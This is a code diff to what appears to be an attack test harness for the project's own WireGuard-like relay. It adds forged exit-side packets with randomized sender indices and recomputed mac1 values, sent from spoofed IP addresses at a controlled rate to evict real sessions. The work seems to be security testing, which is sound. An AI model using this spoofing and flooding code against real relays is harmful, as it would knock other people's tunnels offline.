@@ -13,6 +13,7 @@ use std::time::{Duration, Instant};
 use anyhow::{Context, Result};
 use rand::Rng as _;
 use socket2::{Domain, Protocol, Socket, Type};
+use wraithgate_relay::keys::Mac1Key;
 use wraithgate_relay::wire::{
     COOKIE_REPLY_LEN, INITIATION_LEN, INITIATION_MAC1_OFFSET, RESPONSE_LEN,
 };
@@ -32,6 +33,9 @@ pub struct AttackPlan {
     pub exits: Vec<(SocketAddr, SocketAddr)>,
     /// Exit public keys: anyone can make initiations with a valid mac1 for them.
     pub exit_keys: Vec<String>,
+    /// Client public keys (not secret either), for exit-side initiations with a valid
+    /// mac1 ([`EXIT_INDEX_ATTACKS`]).
+    pub client_keys: Vec<String>,
     /// Which forgeries to send (all when empty); see [`ATTACKS`].
     pub only: Vec<&'static str>,
     /// Datagrams per second, all kinds together.
@@ -50,6 +54,19 @@ pub const ATTACKS: [&str; 9] = [
     "spoofed_exit_transport",
     "spoofed_exit_initiation",
     "spoofed_exit_cookie",
+];
+
+/// Forgeries of the exit side that carry a fresh random sender index in every datagram
+/// (issue 15: they tried to push the exit's real indices out of the relay's session).
+/// Sent only when named in [`AttackPlan::only`]:
+/// - `spoofed_exit_response`: responses with a fresh sender and receiver index;
+/// - `spoofed_exit_initiation_fresh`: initiations with a fresh sender index;
+/// - `spoofed_exit_initiation_mac1`: the same with a valid mac1 for a client's key, which a
+///   stock client under load answers with a cookie reply naming the forged index.
+pub const EXIT_INDEX_ATTACKS: [&str; 3] = [
+    "spoofed_exit_response",
+    "spoofed_exit_initiation_fresh",
+    "spoofed_exit_initiation_mac1",
 ];
 
 /// What was sent.
@@ -94,6 +111,9 @@ struct Source {
     to: SocketAddr,
     /// For initiations with a valid mac1.
     mac1_for: Option<PublicKey>,
+    /// Fresh indices in every datagram ([`EXIT_INDEX_ATTACKS`]), with the mac1 remade for
+    /// this key when given.
+    fresh: Option<Option<Mac1Key>>,
 }
 
 fn spoofing_socket(from: SocketAddr) -> Result<UdpSocket> {
@@ -122,6 +142,7 @@ fn attack(plan: &AttackPlan) -> Result<AttackReport> {
                 socket: own()?,
                 to: plan.relay,
                 mac1_for: None,
+                fresh: None,
             });
         }
     }
@@ -132,6 +153,7 @@ fn attack(plan: &AttackPlan) -> Result<AttackReport> {
                 socket: own()?,
                 to: plan.relay,
                 mac1_for: Some(*k),
+                fresh: None,
             });
         }
     }
@@ -143,6 +165,7 @@ fn attack(plan: &AttackPlan) -> Result<AttackReport> {
                     socket: spoofing_socket(client)?,
                     to: relay,
                     mac1_for: None,
+                    fresh: None,
                 });
             }
         }
@@ -153,6 +176,7 @@ fn attack(plan: &AttackPlan) -> Result<AttackReport> {
                     socket: spoofing_socket(client)?,
                     to: relay,
                     mac1_for: Some(*k),
+                    fresh: None,
                 });
             }
         }
@@ -169,6 +193,37 @@ fn attack(plan: &AttackPlan) -> Result<AttackReport> {
                     socket: spoofing_socket(exit)?,
                     to: relay_side,
                     mac1_for: None,
+                    fresh: None,
+                });
+            }
+        }
+    }
+    let client_keys: Vec<PublicKey> = plan
+        .client_keys
+        .iter()
+        .map(|k| PublicKey::from_base64(k).map_err(|e| anyhow::anyhow!("{k}: {e:?}")))
+        .collect::<Result<_>>()?;
+    for &(exit, relay_side) in &plan.exits {
+        let named = |k: &str| plan.only.contains(&k);
+        for kind in ["spoofed_exit_response", "spoofed_exit_initiation_fresh"] {
+            if named(kind) {
+                sources.push(Source {
+                    kind,
+                    socket: spoofing_socket(exit)?,
+                    to: relay_side,
+                    mac1_for: None,
+                    fresh: Some(None),
+                });
+            }
+        }
+        if named("spoofed_exit_initiation_mac1") {
+            for k in &client_keys {
+                sources.push(Source {
+                    kind: "spoofed_exit_initiation_mac1",
+                    socket: spoofing_socket(exit)?,
+                    to: relay_side,
+                    mac1_for: Some(*k),
+                    fresh: Some(Some(k.mac1_key())),
                 });
             }
         }
@@ -192,6 +247,7 @@ fn attack(plan: &AttackPlan) -> Result<AttackReport> {
     let start = Instant::now();
     let mut sent_total: u64 = 0;
     let mut next = 0usize;
+    let mut scratch = vec![0u8; 1500];
     while start.elapsed() < plan.duration {
         let due = (start.elapsed().as_secs_f64() * f64::from(plan.rate)) as u64;
         while sent_total < due {
@@ -199,6 +255,20 @@ fn attack(plan: &AttackPlan) -> Result<AttackReport> {
             let packet = &pools[i][(next / sources.len()) % POOL];
             next += 1;
             let s = &sources[i];
+            let packet = match &s.fresh {
+                None => &packet[..],
+                Some(mac1) => {
+                    let out = &mut scratch[..packet.len()];
+                    out.copy_from_slice(packet);
+                    rng.fill(&mut out[4..12]);
+                    if let Some(key) = mac1 {
+                        let mac = key.compute(&out[..INITIATION_MAC1_OFFSET]);
+                        out[INITIATION_MAC1_OFFSET..INITIATION_MAC1_OFFSET + 16]
+                            .copy_from_slice(&mac);
+                    }
+                    out
+                }
+            };
             match s.socket.send_to(packet, s.to) {
                 Ok(_) => *report.sent.entry(s.kind).or_default() += 1,
                 Err(_) => report.send_errors += 1,
@@ -334,12 +404,21 @@ fn forge(
             header(buf, 2);
             RESPONSE_LEN
         }
+        "spoofed_exit_response" => {
+            rng.fill(&mut buf[..RESPONSE_LEN]);
+            header(buf, 2);
+            RESPONSE_LEN
+        }
         "spoofed_exit_cookie" => {
             rng.fill(&mut buf[..COOKIE_REPLY_LEN]);
             header(buf, 3);
             COOKIE_REPLY_LEN
         }
-        "mac1_initiation" | "spoofed_client_initiation" | "spoofed_exit_initiation" => {
+        "mac1_initiation"
+        | "spoofed_client_initiation"
+        | "spoofed_exit_initiation"
+        | "spoofed_exit_initiation_fresh"
+        | "spoofed_exit_initiation_mac1" => {
             rng.fill(&mut buf[..INITIATION_LEN]);
             header(buf, 1);
             // mac2 stays zero, as without a cookie.
